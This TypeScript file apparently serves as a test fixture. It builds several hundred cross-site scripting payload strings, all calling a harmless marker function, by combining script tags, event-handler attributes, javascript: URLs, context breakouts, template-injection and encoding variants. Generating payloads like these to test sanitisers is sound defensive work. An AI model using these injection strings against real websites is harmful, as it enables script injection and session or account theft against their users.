/**
 * Texts that run a script in a page that takes them for markup, an address, a style or a part of a script: each of some
 * forms in each of some surroundings. All of them would call `ran()`.
 */
const scripts = ['ran()', 'window.ran()', 'top.ran()', 'self["ran"]()', 'eval("ran()")', 'ran`1`', 'setTimeout(ran)'];

const markup = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<ScRiPt >${js}</sCrIpT>`,
  (js: string) => `<script src="data:text/javascript,${js}"></script>`,
  (js: string) => `<img src=x onerror=${js}>`,
  (js: string) => `<img src="x" onerror="${js.replaceAll('"', '&quot;')}">`,
  (js: string) => `<svg onload=${js}>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js: string) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js: string) => `<iframe src="javascript:${js}"></iframe>`,
  (js: string) => `<object data="javascript:${js}">`,
  (js: string) => `<embed src="javascript:${js}">`,
  (js: string) => `<body onload=${js}>`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<video><source onerror=${js}></video>`,
  (js: string) => `<input autofocus onfocus=${js}>`,
  (js: string) => `<a href="javascript:${js}">x</a>`,
  (js: string) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js: string) => `<math><mtext><script>${js}</script></mtext></math>`,
  (js: string) => `<template><script>${js}</script></template>`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js: string) => `<style>@import "javascript:${js}";</style>`,
  (js: string) => `<link rel=stylesheet href="javascript:${js}">`,
  (js: string) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js: string) => `<base href="javascript:${js}//">`,
];

const surroundings = [
  (text: string) => text,
  (text: string) => `"><${text.slice(1)}`,
  (text: string) => `'>${text}`,
  (text: string) => `</textarea></title></style></script>${text}`,
  (text: string) => `-->${text}<!--`,
  (text: string) => `]]>${text}`,
  (text: string) => `![x](${text})`,
  (text: string) => `\`\`\`html\n${text}\n\`\`\``,
];

const others = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\tscript:ran()',
  ' javascript:ran()',
  'data:text/html,<script>parent.ran()</script>',
  '[x](javascript:ran())',
  '![x](javascript:ran())',
  '<javascript:ran()>',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '#{ran()}',
  '<%= ran() %>',
  "';ran();//",
  '";ran();//',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '%3Cscript%3Eran()%3C/script%3E',
  '\u202e<script>ran()</script>',
  'expression(ran())',
  'url(javascript:ran())',
  '__proto__',
  'constructor',
  '{"__html":"<img src=x onerror=ran()>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=ran()>"}}',
];

/** At least five hundred, all different. */
export const xssPayloads: readonly string[] = [
  ...others,
  ...markup.flatMap((make, i) => scripts.map((js, j) => surroundings[(i + j) % surroundings.length]?.(make(js)) ?? '')),
  ...markup.flatMap((make) => surroundings.map((around) => around(make('ran()')))),
  ...markup.flatMap((make, i) =>
    surroundings.slice(1, 8).map((around) => around(make(scripts[1 + (i % 6)] ?? 'ran()'))),
  ),
].filter((each, i, all) => all.indexOf(each) === i);
